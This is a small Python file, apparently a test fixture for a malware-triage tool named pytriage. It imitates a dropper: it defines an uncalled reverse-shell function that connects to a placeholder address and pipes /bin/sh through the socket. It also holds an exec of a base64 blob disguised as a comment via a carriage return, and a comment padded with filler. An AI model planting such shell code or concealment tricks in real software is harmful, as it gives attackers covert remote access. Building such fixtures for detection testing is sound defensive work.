#!/usr/bin/env python3
# -*- coding: utf-8 -*-
"""Fixture dropper for pytriage tests: prints a constant, touches nothing."""
import base64
import socket
import subprocess

C2 = ("203.0.113.7", 4444)
BLOB = "aW1wb3J0IG9zCnByaW50KCdsYXllciB0d28gc2F5cyBoaScpCg=="

def beacon():
	s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
	s.connect(C2)
	subprocess.call(["/bin/sh", "-i"], stdin=s.fileno())

# looks like a commentexec(base64.b64decode(BLOB))  # hidden behind CR

if __name__ == "__main__":
    print("fixture: nothing happens")  # xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx
